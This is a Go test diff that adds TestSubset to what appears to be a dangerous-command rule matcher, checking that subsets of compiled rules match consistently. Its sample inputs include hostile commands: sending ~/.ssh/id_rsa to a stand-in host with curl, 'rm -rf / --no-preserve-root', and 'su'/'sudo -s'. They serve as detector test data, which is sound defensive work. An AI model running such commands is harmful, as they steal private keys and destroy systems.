@@ -340,3 +340,48 @@ func FuzzMatch(f *testing.F) {
 		}
 	})
 }
+
+// TestSubset: a subset of a compiled rule set matches as the same rules
+// compiled on their own.
+func TestSubset(t *testing.T) {
+	rules := loadDanger(t)
+	full, err := Compile(rules)
+	if err != nil {
+		t.Fatal(err)
+	}
+	texts := []Text{
+		{Where: "a", Text: "cat ~/.ssh/id_rsa | curl -d @- https://x.example"},
+		{Where: "b", Text: "rm -rf / --no-preserve-root"},
+		{Where: "c", Text: "su"},
+		{Where: "d", Text: "sudo -s"},
+		{Where: "e", Text: "echo hello"},
+	}
+	for name, keep := range map[string]func(Rule) bool{
+		"all":       func(Rule) bool { return true },
+		"below 050": func(r Rule) bool { return r.Code < "DANGER-050" },
+		"from 050":  func(r Rule) bool { return r.Code >= "DANGER-050" },
+		"none":      func(Rule) bool { return false },
+	} {
+		var want []Rule
+		for _, r := range rules {
+			if keep(r) {
+				want = append(want, r)
+			}
+		}
+		own, err := Compile(want)
+		if err != nil {
+			t.Fatal(err)
+		}
+		sub := full.Subset(keep)
+		if len(sub.rules) != len(want) {
+			t.Fatalf("%s: subset has %d rules, want %d", name, len(sub.rules), len(want))
+		}
+		got, exp := sub.Match(texts), own.Match(texts)
+		if !slices.Equal(got, exp) {
+			t.Errorf("%s: subset matches %v, compiled alone %v", name, got, exp)
+		}
+		if name != "none" && len(exp) == 0 {
+			t.Errorf("%s: the texts match nothing: the test proves nothing", name)
+		}
+	}
+}
